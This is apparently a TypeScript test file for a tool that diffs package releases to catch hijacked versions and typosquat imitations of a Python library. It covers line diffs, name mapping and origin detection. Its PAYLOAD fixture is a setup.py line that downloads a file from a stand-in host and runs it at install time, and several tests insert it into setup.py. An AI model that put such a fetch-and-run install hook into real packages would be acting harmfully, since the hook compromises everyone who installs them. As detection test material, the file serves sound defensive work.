import assert from 'node:assert/strict';
import { test } from 'node:test';
import { Budget } from '../kit/budget.ts';
import type { Artifact } from '../model/artifact.ts';
import type { DiffReport } from '../model/diff.ts';
import { compare } from './compare.ts';
import { diffText } from '../reports/diff-text.ts';
import { changedLines } from './lines.ts';
import { nearestFirst } from './nearest.ts';
import { likelyOrigins, versionsCopied } from './origin.ts';
import { renamer } from './renaming.ts';

function artifact(root: string, files: Readonly<Record<string, string>>): Artifact {
  const entries = Object.entries(files).map(([path, text]) => ({ path: `${root}/${path}`, bytes: new TextEncoder().encode(text) }));
  return { name: `${root}.tar.gz`, format: 'tar', entries, links: [], anomalies: [], unread: [] };
}

function diff(before: Artifact, after: Artifact, isImitation = false): DiffReport {
  const input = (each: Artifact): { target: string; name: string; artifact: Artifact } => ({ target: each.name, name: each.name, artifact: each });
  return compare(input(before), input(after), { budget: () => new Budget(), isImitation });
}

const SETUP = 'from setuptools import setup\nsetup(name="colorama", packages=["colorama"])\n';
const INFO = 'Metadata-Version: 2.1\nName: colorama\nVersion: 1.0\nAuthor: Ada\n';
const ORIGINAL = artifact('colorama-1.0', { 'PKG-INFO': INFO, 'setup.py': SETUP, 'colorama/__init__.py': 'from colorama.ansi import x\n# Colorama\n', 'colorama/ansi.py': 'x = 1\n' });
const PAYLOAD = 'import urllib.request, os\nopen("p.py", "wb").write(urllib.request.urlopen("http://bad.example/p").read())\nos.system("python p.py")\n';

test('a release taken over: the new behaviour, its stage and its lines show, and nothing else', () => {
  const bad = artifact('colorama-1.1', { 'PKG-INFO': INFO.replace('1.0', '1.1'), 'setup.py': PAYLOAD + SETUP, 'colorama/__init__.py': 'from colorama.ansi import x\r\n# Colorama  \r\n', 'colorama/ansi.py': 'x = 1\n' });
  const report = diff(ORIGINAL, bad);
  assert.deepEqual(report.files.map((file) => [file.path, file.change, file.stage, file.added.map((line) => line.line), file.removed.length]), [['setup.py', 'changed', 'install', [1, 2, 3], 0]]);
  const appeared = report.behaviours.filter((each) => each.change === 'appeared').map((each) => `${each.effect} ${each.stage}`);
  for (const expected of ['net.fetch install', 'process.shell install']) assert.ok(appeared.includes(expected), appeared.join(', '));
  assert.ok(report.appeared.length > 0);
  assert.deepEqual(report.vanished, []);
  assert.deepEqual(report.metadata.map((each) => [each.field.toLowerCase(), each.before, each.after]), [['version', '1.0', '1.1']]);
  assert.ok(report.after.score > report.before.score);
});

test('the other way round it vanished', () => {
  const bad = artifact('colorama-1.1', { 'PKG-INFO': INFO, 'setup.py': PAYLOAD + SETUP, 'colorama/__init__.py': 'from colorama.ansi import x\n# Colorama\n', 'colorama/ansi.py': 'x = 1\n' });
  const report = diff(bad, ORIGINAL);
  assert.deepEqual([report.appeared.length, report.behaviours.filter((each) => each.change === 'appeared').length], [0, 0]);
  assert.ok(report.vanished.length > 0);
});

test('an imitation is read by the original\'s name: only what was added shows', () => {
  const files = { 'PKG-INFO': INFO.replace('colorama', 'colourama'), 'setup.py': `${PAYLOAD}${SETUP}`.replaceAll('colorama', 'colourama'), 'colourama/__init__.py': 'from colourama.ansi import x\n# colourama\n', 'colourama/ansi.py': 'x = 1\n' };
  const imitation = artifact('colourama-0.1', files);
  const report = diff(ORIGINAL, imitation, true);
  assert.deepEqual(report.renamed, { from: 'colourama', to: 'colorama' });
  assert.deepEqual(report.files.map((file) => [file.path, file.added.length, file.removed.length]), [['setup.py', 3, 0]]);
  assert.equal(diff(ORIGINAL, imitation).files.length, 5, 'without it, every file is another');
});

test('binary and very different files are told without lines', () => {
  const report = diff(artifact('a-1', { 'a/x.bin': '\0one', 'a/y.py': Array.from({ length: 3000 }, (_, i) => `a${i}`).join('\n') }), artifact('a-2', { 'a/x.bin': '\0two2', 'a/y.py': Array.from({ length: 3000 }, (_, i) => `b${i}`).join('\n') }));
  assert.deepEqual(report.files.map((file) => file.note).sort(), ['no text: 4 bytes became 5', 'rewritten: more than 3,000 lines differ']);
});

test('lines: the shortest change, wherever it is', () => {
  const changes = (before: string, after: string): unknown => {
    const found = changedLines(before, after);
    return found === undefined ? undefined : [found.removed.map((each) => `${each.line}${each.text}`).join(' '), found.added.map((each) => `${each.line}${each.text}`).join(' ')];
  };
  assert.deepEqual(changes('a\nb\nc', 'a\nb\nc'), ['', '']);
  assert.deepEqual(changes('a\nb\nc', 'a\nx\nb\nc'), ['', '2x']);
  assert.deepEqual(changes('a\nb\nc', 'b\nc\nd'), ['1a', '3d']);
  assert.deepEqual(changes('a\nb\nc\nd\ne', 'a\nX\nc\nY\ne'), ['2b 4d', '2X 4Y']);
  assert.deepEqual(changes('', 'a'), ['1', '1a']);
  assert.deepEqual(changes('a\r\nb ', 'a\nb'), ['', '']);
});

test('lines: removing and adding what is told turns one text into the other', () => {
  let seed = 7;
  const next = (): number => (seed = (seed * 1103515245 + 12345) % 2147483648);
  for (let round = 0; round < 300; round++) {
    const text = (): string[] => Array.from({ length: 1 + (next() % 12) }, () => 'abc'[next() % 3] ?? '');
    const [before, after] = [text(), text()];
    const found = changedLines(before.join('\n'), after.join('\n'));
    assert.ok(found);
    const removed = new Set(found.removed.map((each) => each.line));
    const added = new Map(found.added.map((each) => [each.line, each.text]));
    const kept = before.filter((_, index) => !removed.has(index + 1));
    assert.deepEqual(after.map((_, index) => added.get(index + 1) ?? kept.shift()), after, `${before.join('')} ${after.join('')}`);
    assert.equal(kept.length, 0);
  }
});

test('names are put in each other\'s place as words, in every spelling', () => {
  const rename = renamer({ from: 'my-thng', to: 'my-thing' });
  assert.equal(rename('import my_thng; My_Thng.x my-thng/MYTHNG my_thng_x'), 'import my_thing; my_thing.x my-thing/mything my_thing_x');
  assert.equal(rename('tommy-thng my-thngs'), 'tommy-thng my-thngs');
  assert.equal(renamer({ from: '@evil/lodash', to: 'lodash' })('require("lodash")'), 'require("lodash")');
});

test('the releases an imitation may have been made from: those its code names, and their neighbours', () => {
  const versions = ['0.1.6', '0.3.8', '0.3.9', '0.4.0', '0.4.6'];
  const copy = artifact('x-1', { 'setup.py': "setup(version='0.1.6')", 'x/__init__.py': "__version__ = '0.3.9'", 'CHANGELOG.rst': '"0.3.8" "0.3.8" "0.3.8"' });
  assert.deepEqual(versionsCopied(copy, versions), ['0.3.9', '0.1.6']);
  assert.deepEqual(likelyOrigins(copy, versions, '0.4.6', 4), ['0.3.9', '0.1.6', '0.4.0', '0.3.8']);
  const eager = artifact('x-1', { 'PKG-INFO': 'Version: 0.1.6\n', 'setup.py': "setup(version='0.1.6', x='0.1.6')", 'x/__init__.py': "__version__ = '0.3.9'" });
  assert.deepEqual(versionsCopied(eager, versions), ['0.3.9', '0.1.6'], 'the number it gives itself says less');
  assert.deepEqual(versionsCopied(artifact('x-1', { 'package.json': '{"version": "0.4.6", "x": "0.3.8"}' }), versions), ['0.4.6', '0.3.8']);
  assert.deepEqual(versionsCopied(artifact('x-1', { 'PKG-INFO': 'Name: x\nVersion: 0.3.8\n' }), versions), ['0.3.8']);
  const silent = artifact('x-1', { 'a.py': 'x = 1' });
  assert.deepEqual(versionsCopied(silent, versions), []);
  assert.deepEqual(likelyOrigins(silent, versions, '0.4.6', 5), ['0.4.6', '0.4.0', '0.3.9', '0.3.8']);
  assert.deepEqual(likelyOrigins(silent, ['1.0'], '1.0', 5), ['1.0']);
});

const release = (version: string, files: Readonly<Record<string, string>>): { target: string; artifact: Artifact } => ({ target: version, artifact: artifact(`colorama-${version}`, { 'PKG-INFO': INFO.replace('1.0', version), 'setup.py': SETUP, ...files }) });

test('the nearest release is the one with the fewest other lines, whatever was added and left out', () => {
  const old = release('1.0', { 'colorama/__init__.py': 'a = 1\nb = 2\nc = 3\n', 'tests/test_a.py': 'x\n' });
  const young = release('2.0', { 'colorama/__init__.py': 'a = 1\nb = 20\nc = 30\n', 'tests/test_a.py': 'x\n' });
  const copyOf = (text: string): Artifact => artifact('colourama-1.0', { 'PKG-INFO': INFO.replace('colorama', 'colourama'), 'setup.py': `${PAYLOAD}${SETUP}`.replaceAll('colorama', 'colourama'), 'colourama/__init__.py': text });
  assert.deepEqual(nearestFirst([old, young], copyOf('a = 1\nb = 20\nc = 30\n')).map((each) => each.target), ['2.0', '1.0']);
  assert.deepEqual(nearestFirst([young, old], copyOf('a = 1\nb = 2\nc = 3\n')).map((each) => each.target), ['1.0', '2.0']);
  assert.deepEqual(nearestFirst([young, old], copyOf('z\n')).map((each) => each.target), ['2.0', '1.0'], 'as near as the other: the order given');
});

test('a copy of what stood between two releases shows what was added, and nothing of the releases\' own changes', () => {
  const old = release('1.0', { 'colorama/a.py': 'one = 1\n', 'colorama/b.py': 'two = 2\n', 'colorama/gone.py': 'x = 1\n', 'README': 'Tested on 3.4\n' });
  const young = release('1.1', { 'colorama/a.py': 'one = 11\n', 'colorama/b.py': 'two = 22\n', 'colorama/fresh.py': 'y = 1\n', 'README': 'Tested on 3.6\n' });
  const copy = artifact('colourama-0.1', {
    'PKG-INFO': INFO.replace('colorama', 'colourama'), 'setup.py': `${PAYLOAD}\n\n${SETUP}`.replaceAll('colorama', 'colourama'), 'colourama/a.py': 'one = 11\n', 'colourama/b.py': 'two = 2\nthree = 3\n', 'colourama/fresh.py': 'y = 1\n',
    'README': 'Tested on 3.5\n',
  });
  const input = (each: Artifact): { target: string; name: string; artifact: Artifact } => ({ target: each.name, name: each.name, artifact: each });
  const report = compare(input(old.artifact), input(copy), { budget: () => new Budget(), isImitation: true, kin: [young] });
  assert.deepEqual(report.files.map((file) => [file.path, file.change, file.added.map((line) => line.text), file.against]), [
    ['setup.py', 'changed', PAYLOAD.trimEnd().split('\n'), undefined], ['colourama/b.py', 'changed', ['three = 3'], undefined], ['README', 'changed', ['Tested on 3.5'], undefined],
  ]);
  assert.deepEqual([report.kin, report.same], [['1.1'], 2]);
  const text = diffText(report, { columns: 200, hasColour: false, isVerbose: false });
  assert.match(text, /three = 3/);
  assert.match(text, /README {2}changed, \+1 -1\n/);
  assert.doesNotMatch(text, /Tested on 3\.5/, 'nothing runs in it: it is named, and --verbose shows its lines');
  assert.match(diffText(report, { columns: 200, hasColour: false, isVerbose: true }), /Tested on 3\.5/);
});

test('a finding in several places is told once, and what is left out is counted', () => {
  const report = diff(ORIGINAL, artifact('colorama-1.1', { 'PKG-INFO': INFO, 'setup.py': PAYLOAD + SETUP, 'colorama/__init__.py': 'x\n', 'colorama/ansi.py': 'x = 1\n' }));
  const [first] = report.appeared;
  assert.ok(first);
  const many = Array.from({ length: 30 }, (_, index) => ({ ...first, message: `told ${index}` }));
  const text = diffText({ ...report, appeared: [first, first, ...many] }, { columns: 70, hasColour: false, isVerbose: false });
  assert.match(text, new RegExp(`${first.rule} {2}colorama-1\\.1/setup\\.py:\\d+ and 1 more place\\n`));
  assert.match(text, /… and 6 more findings; --verbose shows all/);
  for (const each of text.split('\n')) assert.ok(each.length <= 70, each);
});
